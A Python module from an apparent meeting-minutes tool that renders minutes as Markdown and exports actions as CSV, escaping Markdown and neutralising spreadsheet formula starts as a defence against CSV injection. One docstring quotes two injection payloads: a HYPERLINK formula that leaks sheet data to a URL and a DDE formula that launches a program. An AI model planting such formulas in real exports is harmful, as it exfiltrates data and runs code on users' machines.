"""Reports of the minutes for people who read them elsewhere: Markdown and a CSV of actions
(the CRM profiles in `crm` and the calendar in `ics` build on the same records).

Pure: no Textual. The talk-time bars are computed here once, for the Markdown table and
for the closing screen's chart alike.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from datetime import date
from typing import Final

from samtui.core.formatting import duration, money, plural
from samtui.core.minutes import ActionRecord, AttendeeRecord, Minutes, NoteRecord
from samtui.core.summary import Summary, owner_name, summary
from samtui.core.vocabulary import ROLE_TITLES

BAR_WIDTH: Final = 20
"""Cells of the longest bar in the Markdown talk-time table."""

CSV_COLUMNS: Final = (
    "id",
    "text",
    "owner_id",
    "owner_name",
    "due",
    "item",
    "status",
    "carried_from",
)
"""The CSV header: scripts and CRM import mappings depend on these names and this order."""

_EIGHTHS: Final = " ▏▎▍▌▋▊▉"
_FULL: Final = "█"

# Escaped wherever they stand; `( ) { } ! . -` only mean something next to these or at the
# start of a line, handled apart, so "follow-up" and "EUR 1.5M" read as typed in plain text.
_MARKDOWN_PUNCTUATION: Final = "\\`*_[]|~$"
_LIST_OR_HEADING = re.compile(r"^[#+=-]")
_NUMBERED = re.compile(r"^(\d+)(?=[.)])")
_ESCAPES: Final[dict[int, str]] = {
    **{ord(char): "\\" + char for char in _MARKDOWN_PUNCTUATION},
    ord("&"): "&amp;",
    ord("<"): "&lt;",
    ord(">"): "&gt;",
    **{ord(char): " " for char in "\r\n\v\f\x1c\x1d\x1e\x85\u2028\u2029"},
}
_ESCAPED: Final = re.compile("[" + "".join(map(re.escape, map(chr, sorted(_ESCAPES)))) + "]")
"""Any character `_ESCAPES` changes: most notes have none, and translate looks up each one."""

_NOTE_HEADINGS: Final = (
    ("point", "Points"),
    ("decision", "Decisions"),
    ("goal", "Goals"),
    ("question", "Questions"),
)
_NONE: Final = "—"


# -- escaping ------------------------------------------------------------------------


def md_escape(text: str) -> str:
    """User text as Markdown that shows as typed, on one line, safe inside a table cell.

    Markdown punctuation gets a backslash, `& < >` become entities (so `<script>` is
    text on GitHub), and line breaks become spaces so no paragraph or table row breaks.
    """
    escaped = text.replace("\r\n", "\n")
    if _ESCAPED.search(escaped) is not None:
        escaped = escaped.translate(_ESCAPES)
    escaped = escaped.strip()
    # At the start a "#", "-", "+", "=" or "1." would make a heading or a list.
    escaped = _LIST_OR_HEADING.sub(lambda m: "\\" + m.group(0), escaped, count=1)
    return _NUMBERED.sub(lambda m: m.group(1) + "\\", escaped, count=1)


# -- talk time -----------------------------------------------------------------------


def talk_bars(minutes: Minutes, width: int) -> list[tuple[AttendeeRecord, str]]:
    """(attendee, bar) for everyone present or who spoke before leaving, in agenda order;
    the longest talker's bar is `width` cells of █, the others scaled to it in eighths.

    Anyone who talked at all gets at least a sliver, so "a little" never reads as "never".
    """
    if width < 1:
        raise ValueError(f"a bar needs at least one cell (got {width})")
    speakers = [a for a in minutes.attendees if a.present or a.turns]
    longest = max((a.talk_seconds for a in speakers), default=0)
    bars = []
    for attendee in speakers:
        eighths = round(attendee.talk_seconds * width * 8 / longest) if longest else 0
        if attendee.talk_seconds and not eighths:
            eighths = 1
        whole, rest = divmod(eighths, 8)
        bars.append((attendee, _FULL * whole + (_EIGHTHS[rest] if rest else "")))
    return bars


# -- CSV -----------------------------------------------------------------------------


FORMULA_STARTS: Final = ("=", "+", "-", "@", "\t", "\r")
"""What spreadsheets take for the start of a formula (OWASP's list for CSV injection):
opened in Excel, LibreOffice or Google Sheets, `=HYPERLINK("http://…?leak="&B3)` sends
the sheet's data away and `+cmd|' /C calc'!A0` may start a program."""


def spreadsheet_cell(text: str) -> str:
    """`text` as a spreadsheet must get it: a leading apostrophe before a formula start, so
    the cell is text (OWASP's advice; the apostrophe may show, the formula never runs)."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def csv_table(
    header: Sequence[str], rows: Iterable[Sequence[str | int]], *, raw: bool = False
) -> str:
    """A CSV document for spreadsheets and CRM imports; every CSV samtui writes is made here.

    RFC 4180 as the csv module writes it: CRLF line ends, fields quoted when needed. Every
    text cell goes through `spreadsheet_cell` unless `raw` (the exact text, for scripts).
    """
    out = io.StringIO(newline="")
    writer = csv.writer(out)
    writer.writerow(header)
    for row in rows:
        writer.writerow(
            cell if raw or not isinstance(cell, str) else spreadsheet_cell(cell) for cell in row
        )
    return out.getvalue()


def actions_csv(minutes: Minutes, *, raw: bool = False) -> str:
    """One row per action of `[[actions]]` (open and carried; closed ones are not in it),
    formula starts neutralised unless `raw` (see `csv_table`)."""
    names = {a.id: a.name for a in minutes.attendees}
    return csv_table(
        CSV_COLUMNS,
        (
            (
                action.id,
                action.text,
                action.owner or "",
                names.get(action.owner, "") if action.owner else "",
                action.due.isoformat() if action.due else "",
                action.item,
                action.status,
                action.carried_from or "",
            )
            for action in minutes.actions
        ),
        raw=raw,
    )


# -- Markdown ------------------------------------------------------------------------


def markdown(minutes: Minutes) -> str:
    """The minutes as a Markdown document for e-mail, wikis and CRMs.

    What sums the review up (time, items, actions, changes, parking lot, questions left,
    who was not heard) comes from samtui.core.summary, as on the closing screen.
    """
    recap = summary(minutes)
    sections = [
        _heading(minutes, recap),
        _attendees(minutes),
        _items(recap),
        *(_item_notes(number, minutes) for number in range(1, len(minutes.items) + 1)),
        _actions(recap),
        _growth_plays(minutes),
        _stakeholder_changes(recap),
        _parking_lot(recap),
        *([_questions_not_asked(recap)] if recap.unasked else []),
        _talk_time(minutes),
        _not_heard(recap),
    ]
    return "\n\n".join("\n".join(lines) for lines in sections) + "\n"


def _heading(minutes: Minutes, recap: Summary) -> list[str]:
    meeting = minutes.meeting
    started = meeting.started_at or meeting.ended_at
    lines = [
        f"# {md_escape(meeting.title)}",
        "",
        f"- **Account:** {md_escape(meeting.account)}",
        f"- **Date:** {started.date().isoformat() if started else 'not started'}",
        f"- **Duration:** {duration(recap.actual_seconds)} of {duration(recap.planned_seconds)} "
        f"planned ({recap.against_plan})",
        f"- **Horizon:** {plural(meeting.horizon_quarters, 'quarter')}",
    ]
    if minutes.funnel:
        funnel = minutes.funnel
        lines.append(
            f"- **Funnel:** {money(funnel.current, funnel.currency)} now, "
            f"{money(funnel.target, funnel.currency)} target "
            f"(gap {money(funnel.gap, funnel.currency)})"
        )
    return lines


def _attendees(minutes: Minutes) -> list[str]:
    lines = ["## Attendees", ""]
    present = [a for a in minutes.attendees if a.present]
    absent = [a for a in minutes.attendees if not a.present]
    for attendee in present:
        title = f" ({md_escape(attendee.title)})" if attendee.title else ""
        roles = ", ".join(md_escape(ROLE_TITLES.get(r, r)) for r in attendee.roles)
        details = "; ".join(
            part for part in (roles, "prepared" if attendee.prepared else "") if part
        )
        lines.append(f"- {md_escape(attendee.name)}{title}{f': {details}' if details else ''}")
    if not present:
        lines.append("Nobody was present.")
    if absent:
        lines += ["", "**Absent:** " + ", ".join(md_escape(a.name) for a in absent)]
    return lines


def _items(recap: Summary) -> list[str]:
    lines = ["## Items: planned against actual", ""]
    if not recap.items:
        return [*lines, "None."]
    lines += [
        "| # | Item | Kind | Planned | Actual | Difference |",
        "|--:|---|---|--:|--:|--:|",
    ]
    for item in recap.items:
        added = f" (+{duration(item.added)} added)" if item.added else ""
        lines.append(
            f"| {item.number} | {md_escape(item.title)} | {item.kind} "
            f"| {duration(item.planned)}{added} | {duration(item.actual)} "
            f"| {_difference(item.over)} |"
        )
    planned, actual = recap.items_planned, recap.items_actual
    lines.append(
        f"| | **Total** | | {duration(planned)} | {duration(actual)} "
        f"| {_difference(actual - planned)} |"
    )
    return lines


def _difference(seconds: int) -> str:
    """`+03:15` over, `-01:00` under, or `on time`."""
    if seconds > 0:
        return f"+{duration(seconds)}"
    if seconds < 0:
        return f"-{duration(-seconds)}"
    return "on time"


def _item_notes(number: int, minutes: Minutes) -> list[str]:
    item = minutes.items[number - 1]
    names = _names(minutes)
    lines = [f"## {number}. {md_escape(item.title)}"]
    # Everyone speaking is a round's promise; in a discussion the moderator gives the floor
    # to whom the talk needs, so who had none there is no news (the meeting-wide list is).
    if item.kind == "round" and item.unheard:
        lines += ["", "Not heard on this item: " + _name_list(item.unheard, names)]
    noted = False
    for kind, heading in _NOTE_HEADINGS:
        notes = [note for note in item.notes if note.kind == kind]
        if notes:
            noted = True
            lines += ["", f"**{heading}**", "", *(_note(note, names) for note in notes)]
    if not noted:
        lines += ["", "No points, decisions, goals or questions noted."]
    return lines


def _note(note: NoteRecord, names: dict[str, str]) -> str:
    """A list entry; a question from the queue says who brought it."""
    if note.brought_by is None:
        return f"- {md_escape(note.text)}"
    return f"- {md_escape(note.text)} (brought by {_name_list([note.brought_by], names)})"


def _actions(recap: Summary) -> list[str]:
    lines = ["## Actions", ""]
    if recap.actions:
        lines += [
            "| # | Action | Owner | Due | Item | Carried or new |",
            "|--:|---|---|---|---|---|",
        ]
        for action in recap.actions:
            origin = (
                f"carried from {md_escape(action.carried_from)}" if action.carried_from else "new"
            )
            lines.append(
                f"| {action.id} | {md_escape(action.text)} | {_owner_cell(action.owner)} "
                f"| {action.due.isoformat() if action.due else _NONE} "
                f"| {md_escape(action.item)} | {origin} |"
            )
    else:
        lines.append("None.")
    if recap.closed:
        lines += ["", "**Closed from the last review**", ""]
        lines += [
            f"- {md_escape(action.text)} ({_owner_cell(action.owner)}): {action.status}"
            for action in recap.closed
        ]
    return lines


def _owner_cell(name: str | None) -> str:
    return "**no owner**" if name is None else md_escape(name)


def _owner(action: ActionRecord, names: dict[str, str]) -> str:
    return _owner_cell(owner_name(action, names))


def _growth_plays(minutes: Minutes) -> list[str]:
    names = _names(minutes)
    actions = {action.id: action for action in minutes.actions}
    lines = ["## Growth plays", ""]
    if minutes.funnel:
        funnel = minutes.funnel
        lines += [
            f"The funnel stands at {money(funnel.current, funnel.currency)} against a target "
            f"of {money(funnel.target, funnel.currency)}: "
            f"{money(funnel.gap, funnel.currency)} to close within "
            f"{plural(minutes.meeting.horizon_quarters, 'quarter')}.",
            "",
        ]
    for number in minutes.growth_plays:
        action = actions.get(number)
        if action is None:
            lines.append(f"- action {number} (not among the actions)")
            continue
        due = f", due {action.due.isoformat()}" if action.due else ""
        lines.append(f"- {md_escape(action.text)} ({_owner(action, names)}{due}; action {number})")
    if not minutes.growth_plays:
        lines.append("None.")
    return lines


def _stakeholder_changes(recap: Summary) -> list[str]:
    lines = ["## Stakeholder changes", ""]
    if not recap.changes:
        return [*lines, "None."]
    lines += [
        "| Stakeholder | Change | Before | After | Item |",
        "|---|---|---|---|---|",
    ]
    for change in recap.changes:
        lines.append(
            f"| {md_escape(change.name)} | {change.change} "
            f"| {_value(change.before)} | {_value(change.after)} | {md_escape(change.item)} |"
        )
    return lines


def _value(value: str | bool | date | None) -> str:
    """A stakeholder field's value as a table cell."""
    if value is None:
        return _NONE
    if isinstance(value, bool):
        return "yes" if value else "no"
    if isinstance(value, date):
        return value.isoformat()
    return md_escape(value)


def _parking_lot(recap: Summary) -> list[str]:
    lines = ["## Parking lot", ""]
    lines += [f"- {md_escape(p.text)} ({md_escape(p.item)})" for p in recap.parked]
    if not recap.parked:
        lines.append("Empty.")
    return lines


def _questions_not_asked(recap: Summary) -> list[str]:
    """Only when some were left: `samtui new --from` takes them to the next review."""
    lines = ["## Questions not asked", ""]
    lines += [f"- {md_escape(text)} ({md_escape(who)})" for who, text in recap.unasked]
    return lines


def _talk_time(minutes: Minutes) -> list[str]:
    lines = ["## Talk time", ""]
    bars = talk_bars(minutes, BAR_WIDTH)
    if not bars:
        return [*lines, "Nobody was present."]
    lines += ["| Attendee | Talk time | Turns | Chart |", "|---|--:|--:|---|"]
    for attendee, bar in bars:
        name = md_escape(attendee.name) + ("" if attendee.present else " (left)")
        shown = f"`{bar}`" if bar else ""
        lines.append(f"| {name} | {duration(attendee.talk_seconds)} | {attendee.turns} | {shown} |")
    return lines


def _not_heard(recap: Summary) -> list[str]:
    said: list[str] = []
    if recap.never_heard:
        said.append(
            "Present but never had the floor: " + ", ".join(map(md_escape, recap.never_heard))
        )
    for title, unheard in recap.unheard_on_rounds:
        said.append(f"Not heard on {md_escape(title)}: " + ", ".join(map(md_escape, unheard)))
    if recap.everyone_heard:
        said.append("Everyone present was heard.")
    lines = ["## Not heard"]
    for sentence in said:  # a paragraph each
        lines += ["", sentence]
    return lines


# -- small things --------------------------------------------------------------------


def _names(minutes: Minutes) -> dict[str, str]:
    return {a.id: a.name for a in minutes.attendees}


def _name_list(ids: list[str], names: dict[str, str]) -> str:
    return ", ".join(md_escape(names.get(i, i)) for i in ids)
